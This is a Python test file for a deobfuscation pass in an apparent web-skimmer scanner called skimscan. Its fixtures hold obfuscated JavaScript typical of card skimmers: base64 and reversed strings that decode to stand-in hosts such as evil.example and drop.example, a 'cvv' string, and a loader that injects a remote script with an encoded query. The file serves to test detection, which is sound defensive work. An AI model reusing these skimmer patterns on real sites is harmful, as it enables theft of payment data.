"""builtin_calls: pure built-ins on constants are evaluated in the isolate."""

from skimscan.analyze.deobfuscate import builtin_calls, decoders
from tests.deobfuscate.helpers import clean, flat
from tests.deobfuscate.test_constant_arrays import hidden, table


def test_decodes_base64_char_codes_and_reversal() -> None:
    code = ("a = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=');"
            "b = String.fromCharCode(99, 118, 118);"
            "c = 'elpmaxe.lived'.split('').reverse().join('');"
            "d = parseInt('1z', 36); e = 'a|b'.split('|');")
    out = flat(clean(code, builtin_calls))
    assert out == ('a = "https://evil.example"; b = "cvv"; c = "devil.example"; d = 71; '
                   'e = ["a", "b"];')


def test_shadowed_builtins_and_run_time_arguments_stay() -> None:
    code = "function atob(s) { return s; } a = atob('aGk='); b = String.fromCharCode(x);"
    out = flat(clean(code, builtin_calls))
    assert "atob(\"aGk=\")" in out and "fromCharCode(x)" in out


def test_pieces_joined_without_a_call_keep_their_mark() -> None:
    """Two strings out of a table joined by `+` are still the table's (as the decoder pass
    marked them), not a built-in's decoding; a built-in that decodes (`atob`) is."""
    names = [f"name{i}" for i in range(decoders.TABLE_MIN)]
    code = f"""var _0xbig = [{table('https://drop.example/t', '?q=', *names)}];
    function _0xd(i) {{ i = i - 0x100; return atob(_0xbig[i]); }}
    (function () {{ var API = _0xd(0x100);
      function go(q) {{ var s = document.createElement('script');
        s.src = API + _0xd(0x101) + encodeURIComponent(q);
        s.async = atob('aHR0cHM6Ly9kcm9wLmV4YW1wbGUvcw==') + '?k='; }}
      window.go = go; }})();"""
    via = hidden(code)
    assert via["https://drop.example/t?q="] == via["https://drop.example/t"] != "builtin-calls"
    assert via["https://drop.example/s?k="] == "builtin-calls"
